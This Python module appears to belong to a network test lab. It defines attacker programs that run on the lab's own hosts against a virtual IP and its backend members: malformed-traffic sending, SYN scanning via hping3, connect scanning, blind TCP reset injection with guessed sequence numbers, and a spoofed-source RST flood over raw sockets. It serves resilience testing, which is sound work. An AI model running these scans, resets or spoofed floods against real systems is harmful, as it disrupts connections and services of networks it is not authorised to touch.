"""An attacker's programs; the lab runs them on a host of its own fabric.

    python -m topologies.lab.attacker KIND '{"rate": 200, …}'

Kinds: garbage, syn-scan, connect-scan, blind-resets, spoofed-flood. Each runs until killed.
"""

from __future__ import annotations

import contextlib
import ipaddress
import itertools
import json
import random
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

from controller import frames
from controller.pipeline import ACK, RST

FIRST_PORT, LAST_PORT = 1, 10_000
EPHEMERAL = (32_768, 60_999)
"""net.ipv4.ip_local_port_range of Linux: what a blind attacker guesses from."""
_PATIENCE_S = 1.0
_ETHERNET_BYTES, _SEGMENT_BYTES = 14, 40


def paced(rate: float, dice: random.Random) -> Iterator[None]:
    """Comes round `rate` times a second, at times by chance; never pauses for less than the clock can tell."""
    due = time.monotonic()
    while True:
        due += dice.expovariate(rate)
        if (early := due - time.monotonic()) > 0.001:
            time.sleep(early)
        yield


def garbage(target: str, port: int, rate: float, seed: int) -> None:
    """Connects and sends what the service does not speak: noise, other protocols, broken requests."""
    dice = random.Random(seed)
    openings: tuple[Callable[[], bytes], ...] = (
        lambda: dice.randbytes(dice.randint(20, 400)) + b"\r\n\r\n",
        lambda: b"\x16\x03\x01\x00\xc8" + dice.randbytes(300),
        lambda: b"GET /\x00\x01 HTTP/1.1\r\nHost lab\r\n\r\n",
        lambda: b"EHLO lab.example\r\n\r\n",
    )
    for _ in paced(rate, dice):
        _in_background(_send_and_wait, target, port, dice.choice(openings)())


def _send_and_wait(target: str, port: int, octets: bytes) -> None:
    with contextlib.suppress(OSError), socket.create_connection((target, port), timeout=_PATIENCE_S) as connection:
        connection.sendall(octets)
        while connection.recv(4096):
            pass


def connect_scan(targets: list[str], rate: float, seed: int) -> None:
    """Completes a handshake with every port that has a listener, and closes."""
    dice = random.Random(seed)
    ports = itertools.cycle(dice.sample(range(FIRST_PORT, LAST_PORT), LAST_PORT - FIRST_PORT))
    for _ in paced(rate, dice):
        port = next(ports)
        for target in targets:
            _in_background(_send_and_wait, target, port, b"")


def syn_scan(targets: list[str], rate: float, seed: int) -> None:
    """hping3(8) against every target, each port once."""
    interval_us = max(1, round(len(targets) * 1e6 / rate))
    first = random.Random(seed).randint(FIRST_PORT, LAST_PORT)
    scans = [
        subprocess.Popen(
            ["hping3", "--syn", "--quiet", "--destport", f"++{first}", "--interval", f"u{interval_us}", target],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        for target in targets
    ]
    for scan in scans:
        scan.wait()


def blind_resets(
    vip: tuple[str, int], members: list[tuple[str, int]], clients: list[str], rate: float, seed: int
) -> None:
    """RSTs at guessed ports and sequence numbers: from the VIP to clients, from members to clients, from clients to the VIP."""
    dice = random.Random(seed)
    for raw in _raw_socket(rate, dice):
        client = (dice.choice(clients), dice.randint(*EPHEMERAL))
        source, destination = dice.choice(((vip, client), (dice.choice(members), client), (client, vip)))
        _send_reset(raw, source, destination, dice)


def spoofed_flood(vip: tuple[str, int], rate: float, seed: int) -> None:
    """RSTs to the VIP from addresses by chance."""
    dice = random.Random(seed)
    for raw in _raw_socket(rate, dice):
        source = (str(ipaddress.IPv4Address(dice.randrange(0x0B000000, 0xDF000000))), dice.randint(1024, 65_535))
        _send_reset(raw, source, vip, dice)


def _raw_socket(rate: float, dice: random.Random) -> Iterator[socket.socket]:
    """A socket for packets with their own IP header (raw(7)), handed out `rate` times a second."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in paced(rate, dice):
            yield raw


def _send_reset(raw: socket.socket, source: tuple[str, int], destination: tuple[str, int], dice: random.Random) -> None:
    flags = RST | dice.choice((0, ACK))
    ends = (_number(source[0]), source[1], _number(destination[0]), destination[1])
    segment = frames.Tcp(*ends, flags, dice.getrandbits(32), dice.getrandbits(32) if flags & ACK else 0)
    packet = frames.tcp(segment, 0, 0)[_ETHERNET_BYTES : _ETHERNET_BYTES + _SEGMENT_BYTES]
    with contextlib.suppress(OSError):
        raw.sendto(packet, (destination[0], 0))


def _number(address: str) -> int:
    return int(ipaddress.IPv4Address(address))


def _in_background(action: Callable[..., None], *arguments: Any) -> None:
    threading.Thread(target=action, args=arguments, daemon=True).start()


KINDS: dict[str, Callable[..., None]] = {
    "garbage": garbage,
    "syn-scan": syn_scan,
    "connect-scan": connect_scan,
    "blind-resets": blind_resets,
    "spoofed-flood": spoofed_flood,
}


def main() -> None:
    """Runs the program that the arguments name."""
    kind, fields = sys.argv[1], json.loads(sys.argv[2])
    with contextlib.suppress(KeyboardInterrupt):
        KINDS[kind](**fields)


if __name__ == "__main__":
    main()
